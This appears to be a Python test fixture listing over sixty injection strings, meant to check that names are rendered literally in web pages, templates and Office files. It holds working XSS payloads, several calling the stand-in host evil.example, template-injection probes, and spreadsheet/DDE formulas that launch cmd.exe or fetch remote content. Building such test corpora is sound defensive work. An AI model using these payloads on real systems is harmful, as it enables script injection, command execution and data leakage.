"""Texts, more than sixty, that may come where a name belongs: each is to be shown as typed, and nothing more."""

PAYLOADS = [
    # scripts and markup of web pages
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><b onmouseover=alert(1)>x</b>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<p style="background:url(http://evil.example/x.png)">x</p>',
    "</td></tr></table><h1>x</h1>",
    "</style><script>alert(1)</script>",
    "<!--", "--><script>alert(1)</script>", "<![CDATA[x]]>", "]]>",
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "<base href=http://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;b&#62;", "&amp;amp;", "&nbsp;", "&", "<", ">",
    "http://evil.example/?a=1&b=2",
    # templates
    "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ signer }}",
    "{{ ''.__class__.__mro__ }}", "{%p if false %}", "{%tr endfor %}", "{%tc endfor %}", "{{r x }}",
    "{_{ 7*7 }_}", "{_% x %_}", "{% colspan 9 %}", "${7*7}", "$x", "#{7*7}", "%(x)s {0} {x}",
    # Office files
    "</w:t></w:r></w:p>", "<w:br/>", '<w:instrText>INCLUDETEXT "http://evil.example"</w:instrText>',
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "_x0041_", "_x000D_",
    '=HYPERLINK("http://evil.example","x")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "'=1+1",
    "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
    # characters
    "a\u202eb", "a\u200bb", "bell\x07 escape\x1b null\x00 end", "one\ttwo", "one\ntwo",
    "Đ" * 2_000, "dài " * 500,
]  # fmt: skip
